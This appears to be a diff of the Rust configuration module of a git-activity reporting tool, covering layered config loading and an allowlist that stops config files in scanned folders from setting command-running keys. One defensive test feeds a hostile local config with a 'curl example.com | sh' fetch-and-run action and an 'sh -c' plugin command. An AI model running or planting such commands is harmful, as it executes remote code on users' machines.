@@ -1,45 +1,598 @@
-use std::path::PathBuf;
+use std::collections::{BTreeMap, HashMap};
+use std::path::{Path, PathBuf};
 
 use anyhow::Result;
 use serde::Deserialize;
 
+use crate::keys::KeyList;
+use devcap_core::category::CategoryRule;
+use devcap_core::git;
+use devcap_core::holidays::HolidayCalendar;
+use devcap_core::model::ProjectLog;
+use devcap_core::relative::RelativeTime;
+
 #[derive(Debug, Default, Deserialize)]
 pub struct DevcapConfig {
     pub path: Option<PathBuf>,
+    /// Repositories to report on instead of scanning `path`.
+    pub repos: Option<Vec<PathBuf>>,
+    /// Directories to skip while scanning, as globs over the name or path.
+    pub exclude: Option<Vec<String>>,
+    pub max_depth: Option<usize>,
     pub author: Option<String>,
+    /// Several author filters, for team reports; used instead of `author`.
+    pub authors: Option<Vec<String>>,
+    pub author_names: Option<HashMap<String, String>>,
+    /// Other names and emails a person commits under, matched along with
+    /// them by the author filter.
+    pub author_aliases: Option<HashMap<String, Vec<String>>>,
     pub period: Option<String>,
+    /// IANA time zone used instead of the machine's, e.g. `Europe/Berlin`.
+    pub timezone: Option<String>,
     pub show_origin: Option<bool>,
+    pub origin_badges: Option<HashMap<String, String>>,
     pub color: Option<bool>,
     pub stat: Option<bool>,
     pub sort: Option<String>,
     pub since: Option<String>,
     pub until: Option<String>,
+    pub time_trailer: Option<String>,
+    pub group_by: Option<String>,
+    pub by_day: Option<bool>,
+    pub max_lines: Option<usize>,
+    pub max_commits: Option<usize>,
+    /// Field separator of `--format csv`.
+    pub csv_delimiter: Option<char>,
+    pub footer: Option<bool>,
+    pub summary: Option<bool>,
+    pub heatmap: Option<bool>,
+    pub health: Option<bool>,
+    pub wip: Option<bool>,
+    pub tags: Option<bool>,
+    /// Open the full-screen browser for `--interactive`.
+    pub tui: Option<bool>,
+    pub audit_log: Option<bool>,
+    pub plugin_command: Option<String>,
+    pub skip_network: Option<bool>,
+    pub offline: Option<bool>,
+    pub pr_titles: Option<bool>,
+    /// Access tokens of self-hosted GitLab instances, keyed by host.
+    pub gitlab_tokens: Option<HashMap<String, String>>,
+    /// What `--enrich` adds when not given on the command line, e.g. `["prs"]`.
+    pub enrich: Option<Vec<String>>,
+    pub cache_ttl: Option<String>,
+    pub dco_repos: Option<Vec<String>>,
+    pub exclude_grep: Option<Vec<String>>,
+    pub include_merges: Option<bool>,
+    pub remote_branches: Option<bool>,
+    pub dedupe: Option<bool>,
+    pub keys: Option<HashMap<String, KeyList>>,
+    pub editor: Option<String>,
+    pub file_manager: Option<String>,
+    pub actions: Option<BTreeMap<String, String>>,
+    pub holidays: Option<HolidayConfig>,
+    pub relative_time: Option<RelativeTimeConfig>,
+    /// Destination of `--post slack`.
+    pub slack: Option<SlackConfig>,
+    /// SMTP server and recipients of `--post email`.
+    pub email: Option<EmailConfig>,
+    /// Time tracker `devcap timesheet` books hours in.
+    pub timesheet: Option<TimesheetConfig>,
+    /// Commit classification rules for `--group-by category` (`[[category]]`).
+    pub category: Option<Vec<CategoryConfig>>,
+    /// Per-repository settings, keyed by path or project name.
+    pub repo: Option<HashMap<String, RepoConfig>>,
+    /// Display names and group labels, keyed by path, project name or
+    /// remote URL.
+    pub projects: Option<HashMap<String, ProjectConfig>>,
+    /// Named sets of scan roots, selected with `--workspace`.
+    pub workspace: Option<BTreeMap<String, WorkspaceConfig>>,
+}
+
+/// A named set of scan roots (`[workspace.work]`).
+#[derive(Debug, Default, Deserialize)]
+pub struct WorkspaceConfig {
+    pub paths: Option<Vec<PathBuf>>,
+    /// Directories to skip, by name or path.
+    pub exclude: Option<Vec<String>>,
+    /// Author filter for this workspace, between `--author` and the global `author`.
+    pub author: Option<String>,
+}
+
+/// Settings for one repository (`[repo."~/oss/foo"]`).
+#[derive(Debug, Default, Deserialize)]
+pub struct RepoConfig {
+    /// Author filter used in this repo instead of the global one.
+    pub author: Option<String>,
+}
+
+/// How a repository is shown in reports (`[projects."~/code/api-v2"]`).
+#[derive(Debug, Default, Deserialize)]
+pub struct ProjectConfig {
+    /// Name shown instead of the directory name.
+    pub name: Option<String>,
+    /// Label the project is listed under, e.g. a client.
+    pub group: Option<String>,
+}
+
+/// How commit times are shown (`[relative_time]`).
+#[derive(Debug, Default, Deserialize)]
+pub struct RelativeTimeConfig {
+    /// `2w ago` instead of `15d ago`.
+    pub weeks: Option<bool>,
+    /// `yesterday 14:30` for commits of the previous day.
+    pub yesterday: Option<bool>,
+    /// Show the date for commits older than this many days.
+    pub absolute_after_days: Option<u32>,
+}
+
+impl RelativeTimeConfig {
+    pub fn format(&self) -> RelativeTime {
+        RelativeTime {
+            weeks: self.weeks.unwrap_or(false),
+            yesterday: self.yesterday.unwrap_or(false),
+            absolute_after: self.absolute_after_days,
+        }
+    }
+}
+
+/// Where `--post slack` sends the report (`[slack]`): an incoming webhook,
+/// or a channel posted to with a bot token.
+#[derive(Debug, Default, Deserialize)]
+pub struct SlackConfig {
+    pub webhook_url: Option<String>,
+    pub token: Option<String>,
+    pub channel: Option<String>,
+}
+
+/// How `--post email` sends the report (`[email]`).
+#[derive(Debug, Default, Deserialize)]
+pub struct EmailConfig {
+    pub host: Option<String>,
+    /// 587 by default; 465 for TLS from the start instead of STARTTLS.
+    pub port: Option<u16>,
+    /// Refuse to send without TLS; on by default.
+    pub tls: Option<bool>,
+    pub username: Option<String>,
+    pub password: Option<String>,
+    /// Sender, e.g. `devcap <devcap@example.com>`.
+    pub from: Option<String>,
+    pub to: Option<Vec<String>>,
+}
+
+/// Where `devcap timesheet` books time (`[timesheet]`), and under which
+/// tracker project each repository's hours go (`[timesheet.projects]`).
+#[derive(Debug, Default, Deserialize)]
+pub struct TimesheetConfig {
+    /// `clockify` or `harvest`.
+    pub backend: Option<String>,
+    /// Clockify API key or Harvest personal access token.
+    pub token: Option<String>,
+    /// Clockify workspace ID.
+    pub workspace: Option<String>,
+    /// Harvest account ID.
+    pub account: Option<String>,
+    /// Target per repository, keyed by path or project name.
+    pub projects: Option<BTreeMap<String, TimesheetTarget>>,
+}
+
+/// Tracker project and task a repository's time is booked under.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct TimesheetTarget {
+    pub project: String,
+    pub task: Option<String>,
+}
+
+/// A rule putting matching commits into a named category.
+#[derive(Debug, Default, Deserialize)]
+pub struct CategoryConfig {
+    pub name: String,
+    /// Conventional commit types, any type when omitted.
+    pub types: Option<Vec<String>>,
+    /// Globs over changed paths, any path when omitted.
+    pub paths: Option<Vec<String>>,
+}
+
+impl CategoryConfig {
+    pub fn rule(&self) -> CategoryRule {
+        CategoryRule {
+            name: self.name.clone(),
+            types: self.types.clone().unwrap_or_default(),
+            paths: self.paths.clone().unwrap_or_default(),
+        }
+    }
+}
+
+/// Days off used by `devcap stats`: explicit dates, an iCalendar file and
+/// the built-in holidays of a country, in any combination.
+#[derive(Debug, Default, Deserialize)]
+pub struct HolidayConfig {
+    pub dates: Option<Vec<String>>,
+    pub ics: Option<PathBuf>,
+    /// Country code of the built-in national holidays, e.g. `DE`.
+    pub region: Option<String>,
 }
 
-pub fn load() -> DevcapConfig {
-    match try_load() {
+/// Name of the config file in the home directory.
+pub const FILE_NAME: &str = ".devcap.toml";
+
+/// Name of the config file in a scanned root; [`FILE_NAME`] is read there
+/// too, as an alias.
+pub const LOCAL_FILE_NAME: &str = ".worklog.toml";
+
+/// Keys a config file in a scanned root may set: what is shown and which
+/// commits count. Anything that runs commands, reads files or talks to a
+/// server only comes from the user's own files.
+const LOCAL_KEYS: &[&str] = &[
+    "exclude",
+    "max_depth",
+    "author",
+    "authors",
+    "author_names",
+    "author_aliases",
+    "period",
+    "timezone",
+    "show_origin",
+    "origin_badges",
+    "color",
+    "stat",
+    "sort",
+    "since",
+    "until",
+    "time_trailer",
+    "group_by",
+    "by_day",
+    "max_lines",
+    "max_commits",
+    "csv_delimiter",
+    "footer",
+    "summary",
+    "heatmap",
+    "health",
+    "wip",
+    "tags",
+    "tui",
+    "dco_repos",
+    "exclude_grep",
+    "include_merges",
+    "remote_branches",
+    "dedupe",
+    "relative_time",
+    "category",
+    "repo",
+    "projects",
+];
+
+/// Load and merge the config files, lowest precedence first:
+/// `$XDG_CONFIG_HOME/worklog/config.toml`, `~/.devcap.toml`, and
+/// `.worklog.toml` in the root to scan. `devcap/config.toml` and a root
+/// `.devcap.toml` are read as aliases, just before the file they stand in
+/// for. The root is `root` (from `--path`), else the `path` set by the files
+/// before it, else the current directory; files there may only set
+/// display and filter keys. Keys of a later file replace those of an earlier one;
+/// tables such as `[keys]` are merged key by key. A file that cannot be read
+/// is reported and left out.
+pub fn load(root: Option<&Path>) -> DevcapConfig {
+    let home = crate::paths::home_dir();
+    let mut merged = toml::Table::new();
+    let mut loaded: Vec<PathBuf> = Vec::new();
+    let mut layer = |path: PathBuf, local: bool, merged: &mut toml::Table| {
+        let canonical = std::fs::canonicalize(&path).unwrap_or_else(|_| path.clone());
+        if !path.is_file() || loaded.contains(&canonical) {
+            return;
+        }
+        loaded.push(canonical);
+        match read_table(&path) {
+            Ok(mut table) => {
+                let ignored = if local {
+                    restrict_local(&mut table)
+                } else {
+                    Vec::new()
+                };
+                if !ignored.is_empty() {
+                    eprintln!(
+                        "Warning: ignoring {} in {}: a scanned directory may only set display and filter options",
+                        ignored.join(", "),
+                        path.display()
+                    );
+                }
+                merge(merged, table);
+            }
+            Err(e) => eprintln!("Warning: failed to load {}: {e}", path.display()),
+        }
+    };
+    for path in xdg_config_paths() {
+        layer(path, false, &mut merged);
+    }
+    if let Some(path) = config_path() {
+        layer(path, false, &mut merged);
+    }
+    let root = root.map(Path::to_path_buf).unwrap_or_else(|| {
+        merged
+            .get("path")
+            .and_then(toml::Value::as_str)
+            .map(|p| match &home {
+                Some(home) => expand_tilde(PathBuf::from(p), home),
+                None => PathBuf::from(p),
+            })
+            .unwrap_or_else(|| PathBuf::from("."))
+    });
+    layer(root.join(FILE_NAME), true, &mut merged);
+    layer(root.join(LOCAL_FILE_NAME), true, &mut merged);
+
+    match from_table(merged, home.as_deref()) {
         Ok(cfg) => cfg,
         Err(e) => {
-            eprintln!("Warning: failed to load ~/.devcap.toml: {e}");
+            eprintln!("Warning: failed to load the config: {e}");
             DevcapConfig::default()
         }
     }
 }
 
-fn try_load() -> Result<DevcapConfig> {
-    let home = std::env::var_os("HOME")
-        .map(PathBuf::from)
-        .ok_or_else(|| anyhow::anyhow!("HOME not set"))?;
-    let config_path = home.join(".devcap.toml");
-    if !config_path.exists() {
-        return Ok(DevcapConfig::default());
+/// Drop the keys a scanned root may not set, returning their names.
+fn restrict_local(table: &mut toml::Table) -> Vec<String> {
+    let ignored: Vec<String> = table
+        .keys()
+        .filter(|key| !LOCAL_KEYS.contains(&key.as_str()))
+        .cloned()
+        .collect();
+    table.retain(|key, _| LOCAL_KEYS.contains(&key));
+    ignored
+}
+
+/// `~/.devcap.toml`; `None` when the home directory is unknown.
+pub fn config_path() -> Option<PathBuf> {
+    crate::paths::home_dir().map(|home| home.join(FILE_NAME))
+}
+
+/// `$XDG_CONFIG_HOME/devcap/config.toml`, read as an alias, and
+/// `$XDG_CONFIG_HOME/worklog/config.toml` (under `%APPDATA%` on Windows).
+pub fn xdg_config_paths() -> Vec<PathBuf> {
+    let Some(base) = crate::paths::config_home() else {
+        return Vec::new();
+    };
+    ["devcap", "worklog"]
+        .into_iter()
+        .map(|dir| base.join(dir).join("config.toml"))
+        .collect()
+}
+
+fn read_table(path: &Path) -> Result<toml::Table> {
+    let content = std::fs::read_to_string(path)?;
+    Ok(toml::from_str(&content)?)
+}
+
+/// Merge `layer` into `base`, replacing values and merging nested tables.
+fn merge(base: &mut toml::Table, layer: toml::Table) {
+    for (key, value) in layer {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(layer)) => merge(base, layer),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+fn from_table(table: toml::Table, home: Option<&Path>) -> Result<DevcapConfig> {
+    let mut config: DevcapConfig = table.try_into()?;
+    if let Some(key) = &config.time_trailer {
+        git::check_trailer_key(key).map_err(anyhow::Error::msg)?;
+    }
+    let Some(home) = home else {
+        return Ok(config);
+    };
+    config.path = config.path.map(|p| expand_tilde(p, home));
+    for repo in config.repos.iter_mut().flatten() {
+        *repo = expand_tilde(std::mem::take(repo), home);
+    }
+    if let Some(holidays) = config.holidays.as_mut() {
+        holidays.ics = holidays.ics.take().map(|p| expand_tilde(p, home));
+    }
+    for entry in config.exclude.iter_mut().flatten() {
+        if entry.starts_with('~') {
+            *entry = expand_tilde(PathBuf::from(&*entry), home)
+                .to_string_lossy()
+                .to_string();
+        }
+    }
+    for workspace in config.workspace.iter_mut().flat_map(|w| w.values_mut()) {
+        for path in workspace.paths.iter_mut().flatten() {
+            *path = expand_tilde(std::mem::take(path), home);
+        }
+        for entry in workspace.exclude.iter_mut().flatten() {
+            if entry.starts_with('~') {
+                *entry = expand_tilde(PathBuf::from(&*entry), home)
+                    .to_string_lossy()
+                    .to_string();
+            }
+        }
+    }
+    if let Some(repos) = config.repo.take() {
+        config.repo = Some(
+            repos
+                .into_iter()
+                .map(|(key, repo)| {
+                    let key = if key.starts_with('~') {
+                        expand_tilde(PathBuf::from(&key), home)
+                            .to_string_lossy()
+                            .to_string()
+                    } else {
+                        key
+                    };
+                    (key, repo)
+                })
+                .collect(),
+        );
+    }
+    if let Some(projects) = config.projects.take() {
+        config.projects = Some(
+            projects
+                .into_iter()
+                .map(|(key, project)| {
+                    let key = if key.starts_with('~') {
+                        expand_tilde(PathBuf::from(&key), home)
+                            .to_string_lossy()
+                            .to_string()
+                    } else {
+                        key
+                    };
+                    (key, project)
+                })
+                .collect(),
+        );
+    }
+    if let Some(timesheet) = config.timesheet.as_mut() {
+        timesheet.projects = timesheet.projects.take().map(|projects| {
+            projects
+                .into_iter()
+                .map(|(key, target)| {
+                    let key = if key.starts_with('~') {
+                        expand_tilde(PathBuf::from(&key), home)
+                            .to_string_lossy()
+                            .to_string()
+                    } else {
+                        key
+                    };
+                    (key, target)
+                })
+                .collect()
+        });
+    }
+    for entry in config.dco_repos.iter_mut().flatten() {
+        if entry.starts_with('~') {
+            *entry = expand_tilde(PathBuf::from(&*entry), home)
+                .to_string_lossy()
+                .to_string();
+        }
     }
-    let content = std::fs::read_to_string(&config_path)?;
-    let mut config: DevcapConfig = toml::from_str(&content)?;
-    config.path = config.path.map(|p| expand_tilde(p, &home));
     Ok(config)
 }
 
+impl HolidayConfig {
+    /// Build the holiday calendar, warning about entries that cannot be used.
+    pub fn calendar(&self) -> HolidayCalendar {
+        let mut calendar = HolidayCalendar::default();
+        for entry in self.dates.iter().flatten() {
+            match entry.parse::<chrono::NaiveDate>() {
+                Ok(date) => calendar.add(date, "Holiday"),
+                Err(e) => {
+                    eprintln!("Warning: invalid holiday in ~/.devcap.toml: \"{entry}\" ({e})")
+                }
+            }
+        }
+        if let Some(path) = &self.ics {
+            match std::fs::read_to_string(path) {
+                Ok(content) => match calendar.add_ics(&content) {
+                    0 => {}
+                    n => eprintln!(
+                        "Warning: {n} recurring events in {} only count on their first date; only yearly repeats of the same date are supported",
+                        path.display()
+                    ),
+                },
+                Err(e) => eprintln!("Warning: could not read {}: {e}", path.display()),
+            }
+        }
+        if let Some(region) = &self.region {
+            match region.parse() {
+                Ok(region) => calendar.add_region(region),
+                Err(e) => eprintln!("Warning: invalid holidays region in ~/.devcap.toml: {e}"),
+            }
+        }
+        calendar
+    }
+}
+
+impl DevcapConfig {
+    /// The `[workspace.<name>]` section, or an error naming the known ones.
+    pub fn workspace(&self, name: &str) -> Result<&WorkspaceConfig> {
+        let workspaces = self.workspace.as_ref();
+        if let Some(workspace) = workspaces.and_then(|w| w.get(name)) {
+            return Ok(workspace);
+        }
+        let known: Vec<&str> = workspaces
+            .into_iter()
+            .flat_map(|w| w.keys())
+            .map(String::as_str)
+            .collect();
+        if known.is_empty() {
+            anyhow::bail!(
+                "unknown workspace \"{name}\": no [workspace.*] sections in ~/.devcap.toml"
+            );
+        }
+        anyhow::bail!(
+            "unknown workspace \"{name}\". Configured: {}",
+            known.join(", ")
+        )
+    }
+
+    /// `[repo."..."]` section whose key names the repository at `path`, by
+    /// path or by directory name.
+    pub fn repo_config(&self, path: &Path) -> Option<&RepoConfig> {
+        let repos = self.repo.as_ref()?;
+        let canonical = std::fs::canonicalize(path).ok();
+        repos.iter().find_map(|(key, repo)| {
+            let key_path = Path::new(key.trim_end_matches('/'));
+            let matches = key_path == path
+                || path.file_name().is_some_and(|name| name == key.as_str())
+                || canonical.is_some() && std::fs::canonicalize(key_path).ok() == canonical;
+            matches.then_some(repo)
+        })
+    }
+
+    /// Apply the `[projects]` display names and group labels. Keys match a
+    /// project by path, directory name or remote URL, e.g.
+    /// `github.com/acme/shop` or `git@github.com:acme/shop.git`.
+    pub fn apply_project_labels(&self, projects: &mut [ProjectLog]) {
+        let Some(labels) = self.projects.as_ref().filter(|l| !l.is_empty()) else {
+            return;
+        };
+        for project in projects {
+            let path = Path::new(&project.path);
+            let canonical = std::fs::canonicalize(path).ok();
+            let remote = project.remote_url.as_deref().map(normalize_remote);
+            let found = labels.iter().find_map(|(key, label)| {
+                let key_path = Path::new(key.trim_end_matches('/'));
+                let matches = key_path == path
+                    || path.file_name().is_some_and(|name| name == key.as_str())
+                    || remote.as_deref() == Some(normalize_remote(key).as_str())
+                    || canonical.is_some() && std::fs::canonicalize(key_path).ok() == canonical;
+                matches.then_some(label)
+            });
+            let Some(label) = found else {
+                continue;
+            };
+            if let Some(name) = &label.name {
+                project.project = name.clone();
+            }
+            project.group = label.group.clone();
+        }
+    }
+}
+
+/// `host/owner/repo` of an HTTPS, SSH or scp-style remote URL, lowercased.
+fn normalize_remote(url: &str) -> String {
+    let url = url.trim().to_lowercase();
+    let rest = match url.split_once("://") {
+        Some((_, rest)) => rest.to_string(),
+        // scp-style `git@host:owner/repo`
+        None if url.contains('@') => url.replacen(':', "/", 1),
+        None => url,
+    };
+    let rest = rest
+        .rsplit_once('@')
+        .map_or(rest.as_str(), |(_, host)| host);
+    let rest = rest.trim_end_matches('/');
+    rest.strip_suffix(".git").unwrap_or(rest).to_string()
+}
+
+/// Whether a `dco_repos` or `[timesheet.projects]` entry names `project`,
+/// by project name or path.
+pub fn matches_repo(entry: &str, project: &ProjectLog) -> bool {
+    entry == project.project
+        || std::path::Path::new(entry.trim_end_matches('/')) == std::path::Path::new(&project.path)
+}
+
 fn expand_tilde(path: PathBuf, home: &std::path::Path) -> PathBuf {
     if let Ok(rest) = path.strip_prefix("~") {
         home.join(rest)
@@ -56,14 +609,60 @@ mod tests {
     fn default_config_is_all_none() {
         let cfg = DevcapConfig::default();
         assert!(cfg.path.is_none());
+        assert!(cfg.repos.is_none());
+        assert!(cfg.exclude.is_none());
+        assert!(cfg.max_depth.is_none());
         assert!(cfg.author.is_none());
+        assert!(cfg.authors.is_none());
+        assert!(cfg.author_names.is_none());
+        assert!(cfg.author_aliases.is_none());
         assert!(cfg.period.is_none());
+        assert!(cfg.timezone.is_none());
         assert!(cfg.show_origin.is_none());
+        assert!(cfg.origin_badges.is_none());
         assert!(cfg.color.is_none());
         assert!(cfg.stat.is_none());
         assert!(cfg.sort.is_none());
         assert!(cfg.since.is_none());
         assert!(cfg.until.is_none());
+        assert!(cfg.time_trailer.is_none());
+        assert!(cfg.group_by.is_none());
+        assert!(cfg.by_day.is_none());
+        assert!(cfg.max_lines.is_none());
+        assert!(cfg.max_commits.is_none());
+        assert!(cfg.csv_delimiter.is_none());
+        assert!(cfg.footer.is_none());
+        assert!(cfg.summary.is_none());
+        assert!(cfg.heatmap.is_none());
+        assert!(cfg.health.is_none());
+        assert!(cfg.wip.is_none());
+        assert!(cfg.tags.is_none());
+        assert!(cfg.projects.is_none());
+        assert!(cfg.tui.is_none());
+        assert!(cfg.audit_log.is_none());
+        assert!(cfg.plugin_command.is_none());
+        assert!(cfg.skip_network.is_none());
+        assert!(cfg.offline.is_none());
+        assert!(cfg.pr_titles.is_none());
+        assert!(cfg.enrich.is_none());
+        assert!(cfg.cache_ttl.is_none());
+        assert!(cfg.dco_repos.is_none());
+        assert!(cfg.exclude_grep.is_none());
+        assert!(cfg.include_merges.is_none());
+        assert!(cfg.remote_branches.is_none());
+        assert!(cfg.dedupe.is_none());
+        assert!(cfg.category.is_none());
+        assert!(cfg.keys.is_none());
+        assert!(cfg.editor.is_none());
+        assert!(cfg.file_manager.is_none());
+        assert!(cfg.actions.is_none());
+        assert!(cfg.holidays.is_none());
+        assert!(cfg.relative_time.is_none());
+        assert!(cfg.slack.is_none());
+        assert!(cfg.email.is_none());
+        assert!(cfg.timesheet.is_none());
+        assert!(cfg.repo.is_none());
+        assert!(cfg.workspace.is_none());
     }
 
     #[test]
@@ -78,6 +677,16 @@ mod tests {
         assert!(cfg.path.is_none());
     }
 
+    #[test]
+    fn parse_team_authors() {
+        let cfg: DevcapConfig =
+            toml::from_str(r#"authors = ["Jane Doe", "max@example.com"]"#).expect("parse failed");
+        assert_eq!(
+            cfg.authors.as_deref(),
+            Some(&["Jane Doe".to_string(), "max@example.com".to_string()][..])
+        );
+    }
+
     #[test]
     fn parse_full_config() {
         let toml_str = r#"
@@ -99,6 +708,168 @@ mod tests {
         assert_eq!(cfg.sort.as_deref(), Some("commits"));
     }
 
+    #[test]
+    fn parse_category_rules() {
+        let toml_str = r#"
+            [[category]]
+            name = "maintenance"
+            types = ["chore", "fix"]
+            paths = ["legacy/**"]
+
+            [[category]]
+            name = "capitalizable"
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let rules: Vec<_> = cfg.category.iter().flatten().map(|c| c.rule()).collect();
+        assert_eq!(rules.len(), 2);
+        assert_eq!(rules[0].types, ["chore", "fix"]);
+        assert_eq!(rules[0].paths, ["legacy/**"]);
+        assert!(rules[1].types.is_empty() && rules[1].paths.is_empty());
+    }
+
+    #[test]
+    fn repo_section_matches_path_or_name() {
+        let toml_str = r#"
+            [repo."/src/oss/foo"]
+            author = "jdoe-oss"
+
+            [repo.bar]
+            author = "jd"
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let author = |path: &str| {
+            cfg.repo_config(Path::new(path))
+                .and_then(|r| r.author.as_deref())
+        };
+        assert_eq!(author("/src/oss/foo"), Some("jdoe-oss"));
+        assert_eq!(author("/work/bar"), Some("jd"));
+        assert_eq!(author("/src/oss/baz"), None);
+    }
+
+    #[test]
+    fn project_labels_match_path_name_or_remote() {
+        let toml_str = r#"
+            [projects."/src/api-v2-final-new"]
+            name = "Billing API"
+            group = "Client A"
+
+            [projects."git@github.com:acme/shop.git"]
+            group = "Client A"
+
+            [projects.notes]
+            name = "Notes"
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let project = |path: &str, remote: Option<&str>| ProjectLog {
+            project: path.rsplit('/').next().unwrap_or_default().to_string(),
+            path: path.to_string(),
+            remote_url: remote.map(str::to_string),
+            ..Default::default()
+        };
+        let mut projects = vec![
+            project("/src/api-v2-final-new", None),
+            project("/work/shop", Some("https://github.com/Acme/shop")),
+            project("/src/notes", None),
+            project("/src/other", None),
+        ];
+        cfg.apply_project_labels(&mut projects);
+        let labels: Vec<(&str, Option<&str>)> = projects
+            .iter()
+            .map(|p| (p.project.as_str(), p.group.as_deref()))
+            .collect();
+        assert_eq!(
+            labels,
+            [
+                ("Billing API", Some("Client A")),
+                ("shop", Some("Client A")),
+                ("Notes", None),
+                ("other", None),
+            ]
+        );
+    }
+
+    #[test]
+    fn workspace_lookup() {
+        let toml_str = r#"
+            [workspace.oss]
+            paths = ["/src/oss", "/src/forks"]
+            exclude = ["archive"]
+            author = "jdoe"
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let oss = cfg.workspace("oss").expect("workspace");
+        assert_eq!(oss.paths.as_ref().map(Vec::len), Some(2));
+        assert_eq!(oss.author.as_deref(), Some("jdoe"));
+        let err = cfg.workspace("work").expect_err("unknown");
+        assert!(err.to_string().contains("Configured: oss"));
+    }
+
+    #[test]
+    fn later_layers_override_earlier_ones() {
+        let mut merged: toml::Table = toml::from_str(
+            r#"
+            path = "~/Sites"
+            period = "week"
+            [keys]
+            copy = "y"
+            open = "o"
+        "#,
+        )
+        .expect("valid TOML");
+        let local: toml::Table = toml::from_str(
+            r#"
+            period = "today"
+            exclude = ["vendor"]
+            [keys]
+            copy = "c"
+        "#,
+        )
+        .expect("valid TOML");
+        merge(&mut merged, local);
+
+        let cfg = from_table(merged, Some(Path::new("/home/user"))).expect("valid config");
+        assert_eq!(cfg.path, Some(PathBuf::from("/home/user/Sites")));
+        assert_eq!(cfg.period.as_deref(), Some("today"));
+        assert_eq!(cfg.exclude, Some(vec!["vendor".to_string()]));
+        let keys = cfg.keys.expect("keys section");
+        assert_eq!(keys.len(), 2);
+        assert!(keys.contains_key("open"));
+    }
+
+    #[test]
+    fn local_files_only_set_display_and_filter_keys() {
+        let mut table: toml::Table = toml::from_str(
+            r#"
+            period = "week"
+            plugin_command = "sh -c"
+            editor = "evil"
+            [actions]
+            run = "curl example.com | sh"
+            [slack]
+            webhook_url = "https://example.com/hook"
+            [projects."~/code/api"]
+            name = "API"
+        "#,
+        )
+        .expect("valid TOML");
+        let mut ignored = restrict_local(&mut table);
+        ignored.sort();
+        assert_eq!(ignored, ["actions", "editor", "plugin_command", "slack"]);
+        let keys: Vec<&String> = table.keys().collect();
+        assert_eq!(keys, ["period", "projects"]);
+    }
+
+    #[test]
+    fn invalid_time_trailer_is_rejected() {
+        let table: toml::Table =
+            toml::from_str(r#"time_trailer = "Time,valueonly""#).expect("valid TOML");
+        assert!(from_table(table, None).is_err());
+        let table: toml::Table =
+            toml::from_str(r#"time_trailer = "Time-Spent""#).expect("valid TOML");
+        let cfg = from_table(table, None).expect("valid key");
+        assert_eq!(cfg.time_trailer.as_deref(), Some("Time-Spent"));
+    }
+
     #[test]
     fn tilde_path_is_expanded() {
         let home = PathBuf::from("/home/user");
@@ -152,4 +923,64 @@ mod tests {
         let result: Result<DevcapConfig, _> = toml::from_str(toml_str);
         assert!(result.is_ok());
     }
+
+    #[test]
+    fn parse_keys_section() {
+        let toml_str = r#"
+            [keys]
+            back = "q"
+            down = ["j", "down"]
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let keys = cfg.keys.expect("keys section");
+        assert!(matches!(keys.get("back"), Some(KeyList::One(k)) if k == "q"));
+        assert!(matches!(keys.get("down"), Some(KeyList::Many(k)) if k.len() == 2));
+    }
+
+    #[test]
+    fn parse_actions_section() {
+        let toml_str = r#"
+            [actions]
+            show-pr = "gh pr view {branch}"
+            log = "git log -1 {hash}"
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let actions = cfg.actions.expect("actions section");
+        assert_eq!(
+            actions.get("show-pr").map(String::as_str),
+            Some("gh pr view {branch}")
+        );
+        assert_eq!(actions.len(), 2);
+    }
+
+    #[test]
+    fn holiday_calendar_from_dates() {
+        let toml_str = r#"
+            [holidays]
+            dates = ["2026-12-25", "not-a-date"]
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let calendar = cfg.holidays.expect("holidays section").calendar();
+        let christmas = chrono::NaiveDate::from_ymd_opt(2026, 12, 25).expect("valid date");
+        assert_eq!(calendar.holiday(christmas), Some("Holiday"));
+    }
+
+    #[test]
+    fn relative_time_section() {
+        let toml_str = r#"
+            [relative_time]
+            weeks = true
+            absolute_after_days = 30
+        "#;
+        let cfg: DevcapConfig = toml::from_str(toml_str).expect("parse failed");
+        let format = cfg.relative_time.expect("relative_time section").format();
+        assert_eq!(
+            format,
+            RelativeTime {
+                weeks: true,
+                yesterday: false,
+                absolute_after: Some(30),
+            }
+        );
+    }
 }